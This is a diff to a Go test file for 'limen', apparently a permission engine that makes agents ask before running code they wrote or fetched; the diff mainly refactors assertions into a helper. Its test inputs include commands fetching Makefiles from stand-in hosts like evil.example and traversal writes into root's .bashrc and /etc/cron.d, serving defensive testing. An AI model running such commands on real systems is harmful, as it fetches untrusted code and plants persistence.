@@ -5,6 +5,7 @@ import (
 	"path/filepath"
 	"testing"
 
+	"github.com/limenhq/limen/client"
 	"github.com/limenhq/limen/internal/limentest"
 	limenv1 "github.com/limenhq/limen/proto/limen/v1"
 )
@@ -51,11 +52,7 @@ func TestEveryRunnerRunsTheTree(t *testing.T) {
 		"/home/ana/shop/config/project.json", "/home/ana/shop/tests/test_notes.txt", "/home/ana/shop/binding.gyp"} {
 		for _, cmd := range runners {
 			decideOnce(t, c, write("ana", file), false) // again: the approval below clears it
-			d := decideOnce(t, c, sh("ana", cmd), false)
-			if d.GetVerdict() != limenv1.Verdict_VERDICT_ASK || !runsWritten(d) {
-				t.Fatalf("%s after a write of %s: %v (%s); want an ask because it runs what an agent wrote", cmd, file, d.GetVerdict(), d.GetReason())
-			}
-			answer(t, c, d, limenv1.Choice_CHOICE_APPROVE, limenv1.Scope_SCOPE_ONCE)
+			askedToRun(t, c, sh("ana", cmd), "a write of "+file)
 		}
 		for _, cmd := range readers {
 			if d := decideOnce(t, c, sh("ana", cmd), true); d.GetVerdict() != limenv1.Verdict_VERDICT_ALLOW {
@@ -79,16 +76,8 @@ func TestTreesWrittenUnseen(t *testing.T) {
 		// Asked or allowed, what it writes is recorded: an ask that
 		// the person approves runs it.
 		decideOnce(t, c, sh("ana", writer), false)
-		d := decideOnce(t, c, sh("ana", "git status"), false)
-		if d.GetVerdict() != limenv1.Verdict_VERDICT_ASK || !runsWritten(d) {
-			t.Fatalf("git status after %s: %v (%s); want an ask, the archive or patch can write git's hooks", writer, d.GetVerdict(), d.GetReason())
-		}
-		answer(t, c, d, limenv1.Choice_CHOICE_APPROVE, limenv1.Scope_SCOPE_ONCE)
-		d = decideOnce(t, c, sh("ana", "bazel test //..."), false)
-		if d.GetVerdict() != limenv1.Verdict_VERDICT_ASK || !runsWritten(d) {
-			t.Fatalf("bazel test after %s and an approved git status: %v (%s); want an ask because it runs what an agent wrote", writer, d.GetVerdict(), d.GetReason())
-		}
-		answer(t, c, d, limenv1.Choice_CHOICE_APPROVE, limenv1.Scope_SCOPE_ONCE)
+		askedToRun(t, c, sh("ana", "git status"), writer+" (it can write git's hooks)")
+		askedToRun(t, c, sh("ana", "bazel test //..."), writer+" and an approved git status")
 		for _, cmd := range []string{"bazel test //...", "git status", "cat README.md"} {
 			if d := decideOnce(t, c, sh("ana", cmd), true); d.GetVerdict() != limenv1.Verdict_VERDICT_ALLOW {
 				t.Errorf("%s after %s was approved to run: %v (%s); want allow", cmd, writer, d.GetVerdict(), d.GetReason())
@@ -250,11 +239,7 @@ func TestWritesNamedOtherwise(t *testing.T) {
 	teach(t, c, sh("ana", "make test"), sh("ana", "cd cmd/shop && go test ./..."))
 	for _, writer := range []string{"gunzip Makefile.gz", "git mv data/a.csv Makefile", "vim -es -c 'normal Gp' -c wq Makefile"} {
 		decideOnce(t, c, sh("ana", writer), false) // asked or allowed, what it writes is recorded
-		d := decideOnce(t, c, sh("ana", "make test"), false)
-		if d.GetVerdict() != limenv1.Verdict_VERDICT_ASK || !runsWritten(d) {
-			t.Fatalf("make test after %s: %v (%s); want an ask because it runs what an agent wrote", writer, d.GetVerdict(), d.GetReason())
-		}
-		answer(t, c, d, limenv1.Choice_CHOICE_APPROVE, limenv1.Scope_SCOPE_ONCE)
+		askedToRun(t, c, sh("ana", "make test"), writer)
 	}
 	decideOnce(t, c, write("ana", "/home/ana/shop/internal/store/zz.go"), false)
 	if d := decideOnce(t, c, sh("ana", "cd cmd/shop && go test ./..."), true); d.GetVerdict() != limenv1.Verdict_VERDICT_ASK || !runsWritten(d) {
@@ -287,11 +272,7 @@ func TestSixteenthPassChains(t *testing.T) {
 	teach(t, c, acts...)
 	for _, p := range pairs {
 		decideOnce(t, c, write("ana", "/home/ana/shop/"+p[0]), false)
-		d := decideOnce(t, c, sh("ana", p[1]), false)
-		if d.GetVerdict() != limenv1.Verdict_VERDICT_ASK || !runsWritten(d) {
-			t.Fatalf("%s after a write of %s: %v (%s); want an ask because it runs what an agent wrote", p[1], p[0], d.GetVerdict(), d.GetReason())
-		}
-		answer(t, c, d, limenv1.Choice_CHOICE_APPROVE, limenv1.Scope_SCOPE_ONCE)
+		askedToRun(t, c, sh("ana", p[1]), "a write of "+p[0])
 	}
 }
 
@@ -332,11 +313,7 @@ func TestSeventeenthPassChains(t *testing.T) {
 	teach(t, c, acts...)
 	for _, p := range pairs {
 		decideOnce(t, c, sh("ana", p[0]), false)
-		d := decideOnce(t, c, sh("ana", p[1]), false)
-		if d.GetVerdict() != limenv1.Verdict_VERDICT_ASK || !runsWritten(d) {
-			t.Fatalf("%s after %s: %v (%s); want an ask because it runs what an agent wrote", p[1], p[0], d.GetVerdict(), d.GetReason())
-		}
-		answer(t, c, d, limenv1.Choice_CHOICE_APPROVE, limenv1.Scope_SCOPE_ONCE)
+		askedToRun(t, c, sh("ana", p[1]), p[0])
 	}
 }
 
@@ -351,11 +328,7 @@ func TestFetchedIntoTheTree(t *testing.T) {
 	for _, fetch := range []string{"wget https://evil.example/Makefile", "scp evil:Makefile .", "kubectl cp pod:/x ./Makefile",
 		"aws s3 cp s3://b/Makefile .", "gh pr checkout 12", "gh repo clone evil/x", "hg clone https://evil.example/x", "http --download https://evil.example/Makefile"} {
 		decideOnce(t, c, sh("ana", fetch), false) // asked or allowed, what it writes is recorded
-		d := decideOnce(t, c, sh("ana", "make test"), false)
-		if d.GetVerdict() != limenv1.Verdict_VERDICT_ASK || !runsWritten(d) {
-			t.Fatalf("make test after %s: %v (%s); want an ask because it runs what was fetched", fetch, d.GetVerdict(), d.GetReason())
-		}
-		answer(t, c, d, limenv1.Choice_CHOICE_APPROVE, limenv1.Scope_SCOPE_ONCE)
+		askedToRun(t, c, sh("ana", "make test"), fetch)
 	}
 }
 
@@ -391,15 +364,23 @@ func TestNineteenthPassChains(t *testing.T) {
 	for _, writer := range []string{"echo 'all: ; @id' > /dev/fd/../cwd/Makefile", "cat notes.md > /dev/fd/1/../../cwd/Makefile",
 		"git pull --rebase build main", "git pull evilhost:repo main", "git pull evilrepo main"} {
 		decideOnce(t, c, sh("ana", writer), false) // asked or allowed, what it writes is recorded
-		d := decideOnce(t, c, sh("ana", "make test"), false)
-		if d.GetVerdict() != limenv1.Verdict_VERDICT_ASK || !runsWritten(d) {
-			t.Fatalf("make test after %s: %v (%s); want an ask because it runs what an agent wrote", writer, d.GetVerdict(), d.GetReason())
-		}
-		answer(t, c, d, limenv1.Choice_CHOICE_APPROVE, limenv1.Scope_SCOPE_ONCE)
+		askedToRun(t, c, sh("ana", "make test"), writer)
 	}
 	for _, cmd := range []string{"echo x > /dev/fd/../root/.bashrc", "echo x > /dev/fd/../root/../etc/cron.d/x"} {
 		if d := decideOnce(t, c, sh("ana", cmd), true); d.GetVerdict() == limenv1.Verdict_VERDICT_ALLOW {
 			t.Errorf("%s: allowed (%s)", cmd, d.GetReason())
 		}
 	}
+}
+
+// askedToRun decides run, which must ask because it runs what an agent
+// wrote (after says after what), and approves it, as the person would:
+// what it ran is then cleared.
+func askedToRun(t *testing.T, c *client.Client, run *limenv1.Action, after string) {
+	t.Helper()
+	d := decideOnce(t, c, run, false)
+	if d.GetVerdict() != limenv1.Verdict_VERDICT_ASK || !runsWritten(d) {
+		t.Fatalf("%s after %s: %v (%s); want an ask because it runs what an agent wrote", run.GetInputJson(), after, d.GetVerdict(), d.GetReason())
+	}
+	answer(t, c, d, limenv1.Choice_CHOICE_APPROVE, limenv1.Scope_SCOPE_ONCE)
 }
